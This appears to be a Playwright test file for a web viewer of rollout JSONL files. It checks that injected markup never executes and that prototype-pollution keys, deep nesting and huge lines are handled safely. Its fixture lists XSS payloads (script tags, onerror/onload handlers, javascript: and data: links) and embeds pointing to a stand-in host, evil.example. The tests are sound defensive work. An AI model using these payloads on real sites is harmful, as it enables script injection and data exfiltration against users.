import { expect, test } from './support/app';
import { dropFiles } from './support/drop';
import { rollout } from './support/rollouts';

const attacks = [
  '<script>window.pwned = true</script>',
  '<img src=x onerror="window.pwned = true">',
  '<svg onload="window.pwned = true"></svg>',
  '[a link](javascript:window.pwned=true)',
  '[data](data:text/html,<script>window.pwned=true</script>)',
  '![remote](https://evil.example/pixel.png)',
  '<iframe src="https://evil.example"></iframe>',
  '<style>body{display:none}</style><form action="https://evil.example"><input name=x></form>',
  '<a href="https://evil.example" style="position:fixed;inset:0">cover</a>',
  '\u202Eevil\u2066 bidi \uD800 lone surrogate',
  '**bold** and `code`',
].join('\n\n');

test('text of a rollout never runs, loads or breaks anything, as text and as Markdown', async ({ page }) => {
  await page.goto('/');
  const line = rollout({ question: attacks, answer: attacks });
  await dropFiles(page, [{ name: 'hostile.jsonl', text: line }]);
  const episode = page.getByRole('region', { name: 'Episode', exact: true });
  await expect(episode.getByText('<script>').first()).toBeVisible();

  await page.keyboard.press('m');
  await expect(episode.locator('strong', { hasText: 'bold' }).first()).toBeVisible();
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
  await expect(
    episode.getByRole('article').locator('iframe, form, svg[onload], [style*="fixed"]'),
  ).toHaveCount(0);
  await expect(page.locator('a[href^="javascript:"], a[href^="data:"], img[src^="http"]')).toHaveCount(0);
});

test('prototype keys, deep nesting and a huge line open like anything else', async ({ page }) => {
  const base = rollout();
  const proto = `${base.slice(0, -1)},"__proto__":{"polluted":true},"constructor":5}`;
  const deep = `${base.slice(0, -1)},"deep":${'['.repeat(5000)}${']'.repeat(5000)}}`;
  const huge = rollout({ question: 'huge', answer: 'x'.repeat(10_000_000) });
  await page.goto('/');
  await dropFiles(page, [{ name: 'odd.jsonl', text: [proto, deep, huge].join('\n') }]);
  const table = page.getByRole('grid', { name: 'Episodes' });
  await expect(table.getByRole('row').filter({ hasText: /task \d/ })).toHaveCount(3);
  for (const key of ['3', 'J', 'J']) await page.keyboard.press(key);
  await expect(page.getByRole('article', { name: 'user, message 1' })).toContainText('huge');
  for (const key of ['G', '1', '2', '3']) await page.keyboard.press(key);
  await expect(page.getByRole('slider', { name: 'Step' })).toHaveAttribute('aria-valuenow', '2');
  expect(await page.evaluate(() => 'polluted' in {})).toBe(false);
});
